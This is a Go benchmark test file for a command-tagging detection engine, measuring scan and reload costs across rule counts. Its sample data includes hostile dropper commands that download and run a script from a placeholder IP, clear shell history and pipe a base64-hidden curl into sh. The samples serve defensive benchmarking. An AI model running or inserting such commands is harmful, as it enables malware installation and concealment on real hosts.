package engine_test

import (
	"encoding/json"
	"fmt"
	"testing"

	"ttpworker/internal/rule"
	"ttpworker/internal/tagger"
	"ttpworker/internal/tagger/engine"
	"ttpworker/rules"
)

const benignPayload = `{"command_text":"ls -la /var/www && tail -n 20 access.log","uid":1000,"user":"deploy","src":"192.0.2.7","pwd":"/home/deploy"}`

// engineOf has n rules of one kind, none of which matches benignPayload.
func engineOf(tb testing.TB, n int) *engine.Engine {
	tb.Helper()
	rules := make([]*rule.Rule, n)
	for i := range rules {
		rules[i] = ruleOf(tb, fmt.Sprintf("R%05d", i), fmt.Sprintf(`\bevil%d\s+(-\S+\s+)*/etc/`, i))
	}
	return engine.New(rules, allEnabled)
}

// BenchmarkAppendTags shows what a plain scan costs: time grows with the number of rules, allocations do not.
func BenchmarkAppendTags(b *testing.B) {
	for _, n := range []int{10, 100, 1000, 10_000} {
		e := engineOf(b, n)
		for name, payload := range map[string]string{"benign": benignPayload, "match": `{"command_text":"evil7 -x /etc/passwd"}`} {
			b.Run(fmt.Sprintf("rules=%d/%s", n, name), func(b *testing.B) {
				ev := event(payload)
				var dst []tagger.Tag
				b.ReportAllocs()
				for b.Loop() {
					dst, _ = e.AppendTags(dst[:0], ev)
				}
			})
		}
	}
}

// BenchmarkNew shows what a reload costs.
func BenchmarkNew(b *testing.B) {
	for _, n := range []int{10, 100, 1000, 10_000} {
		rules := make([]*rule.Rule, n)
		for i := range rules {
			rules[i] = ruleOf(b, fmt.Sprintf("R%05d", i), "evil")
		}
		b.Run(fmt.Sprintf("rules=%d", n), func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				engine.New(rules, allEnabled)
			}
		})
	}
}

// realisticCommands are as sensors see them: short ones, chains of a dropper, and some that hide what they do.
var realisticCommands = []string{
	`uname -a`,
	`cat /proc/cpuinfo | grep name | wc -l`,
	`cd /tmp || cd /var/run || cd /mnt; wget http://198.51.100.7/a.sh; curl -O http://198.51.100.7/a.sh; chmod 777 a.sh; sh a.sh; rm -rf a.sh; history -c`,
	`tar czf /backup/www.tgz --exclude '*.log' /var/www`,
	`sudo -u www nohup /bin/busybox sh -c 'cd /dev/shm; wget -q "http://198.51.100.7/a" -O .x && ./.x' > /dev/null 2>&1 &`,
	`echo Y2QgL3RtcDsgY3VybCAtcyBodHRwOi8vMTk4LjUxLjEwMC43L2EgfCBzaA== | base64 -d | bash`,
	`ls -la /var/www && tail -n 20 access.log`,
	`git log --oneline --since="2 weeks ago" | head -n 5`,
}

// BenchmarkCommands is the embedded pack over commands, what is derived from them included. An operation is one event.
func BenchmarkCommands(b *testing.B) {
	pack, err := rule.NewParser(rule.DefaultMaxBytes).Load(rules.Pack(), ".", "pack")
	if err != nil {
		b.Fatal(err)
	}
	e := engine.New(pack, allEnabled)
	events := make([]*tagger.TaggerEvent, len(realisticCommands))
	for i, command := range realisticCommands {
		payload, err := json.Marshal(map[string]any{"command_text": command, "uid": 0, "user": "root", "src": "192.0.2.7"})
		if err != nil {
			b.Fatal(err)
		}
		events[i] = event(string(payload))
	}
	var dst []tagger.Tag
	b.ReportAllocs()
	for i := 0; b.Loop(); i++ {
		dst, _ = e.AppendTags(dst[:0], events[i%len(events)])
	}
}
